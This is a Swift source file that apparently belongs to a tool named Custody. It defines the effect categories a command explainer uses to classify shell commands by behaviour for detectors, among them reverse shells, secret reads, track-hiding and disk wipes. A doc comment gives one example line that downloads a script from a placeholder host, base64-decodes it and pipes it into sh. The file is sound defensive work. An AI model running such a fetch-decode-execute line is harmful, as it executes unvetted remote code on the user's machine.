/// What a command line does, structurally, so that detectors can judge by behaviour rather than by
/// keyword: "downloads from 203.0.113.9", "decodes base64", "pipes into a shell".
///
/// ```swift
/// let e = Explainer().explain("curl -s https://x.example/i.sh | base64 -d | sh")
/// e.has(.download) && e.has(.decode) && e.has(.pipesToShell)   // true
/// ```
package struct CommandEffect: Hashable, Sendable, Codable {
    package enum Kind: String, Hashable, Sendable, Codable, CaseIterable {
        /// Fetches data from the network (detail: URL or host).
        case download
        /// Sends local data out (detail: host).
        case upload
        /// Opens a connection to a host (detail: host), including ssh, ping, `/dev/tcp`.
        case networkConnection = "network-connection"
        /// Listens for incoming connections or serves files.
        case listens
        /// Decodes data: base64, xxd -r, openssl enc -d, uudecode, printf with escapes.
        case decode
        /// Decompresses or unpacks data: gzip -d, tar -x, unzip.
        case decompress
        /// Cuts bytes out of data: head -c, tail -c, dd skip/count, tr, cut -b, rev.
        case carveBytes = "carve-bytes"
        /// Feeds data into a shell or interpreter as code (`| sh`, `bash <(…)`).
        case pipesToShell = "pipes-to-shell"
        /// Evaluates a string as code (`eval`, `sh -c` with a computed string, `source`).
        case evaluatesCode = "evaluates-code"
        /// Runs inline interpreter code (`python -c`, `perl -e`, …).
        case runsInlineCode = "runs-inline-code"
        /// Runs a script or program file whose content is not on screen (detail: path).
        case runsScript = "runs-script"
        /// Runs a program Custody does not know (detail: name).
        case runsUnknownProgram = "runs-unknown-program"
        /// Runs a command on another machine or in a container (detail: where).
        case runsRemoteCommand = "runs-remote-command"
        /// Starts a container image.
        case runsContainer = "runs-container"
        /// Deletes files, resources or data (detail: target).
        case deletes
        /// Overwrites a file or device in place (detail: target).
        case overwrites
        /// Writes or creates files (detail: path).
        case writesFile = "writes-file"
        /// Reads a file that usually holds secrets (detail: path).
        case readsSecret = "reads-secret"
        case changesPermissions = "changes-permissions"
        case changesOwnership = "changes-ownership"
        /// Adds, removes or changes users, groups, keys, roles or passwords.
        case changesIdentity = "changes-identity"
        /// Runs as another user (sudo, su, doas, runuser).
        case elevatesPrivilege = "elevates-privilege"
        /// Makes something run again later or at login (cron, systemd enable, rc files, authorized_keys).
        case persistence
        case changesFirewall = "changes-firewall"
        case changesConfig = "changes-config"
        case installsPackage = "installs-package"
        case stopsService = "stops-service"
        case killsProcess = "kills-process"
        /// Gives a remote party a shell (reverse or bind shell).
        case reverseShell = "reverse-shell"
        /// The text hides what it does (detail: how).
        case obfuscation
        /// Erases or disables shell history or logs.
        case hidesTracks = "hides-tracks"
        /// Wipes or reformats a disk or partition.
        case wipesDisk = "wipes-disk"
        /// Shuts down or reboots the machine.
        case powerChange = "power-change"
        /// Runs in the background.
        case background
    }

    package var kind: Kind
    package var detail: String?

    package init(_ kind: Kind, _ detail: String? = nil) {
        self.kind = kind
        self.detail = detail
    }
}

extension CommandExplanation {
    /// True when some part of the line has this effect.
    package func has(_ kind: CommandEffect.Kind) -> Bool { effects.contains { $0.kind == kind } }

    /// The details recorded for one kind of effect (hosts for downloads, paths for deletes…).
    package func details(_ kind: CommandEffect.Kind) -> [String] {
        effects.compactMap { $0.kind == kind ? $0.detail : nil }
    }
}
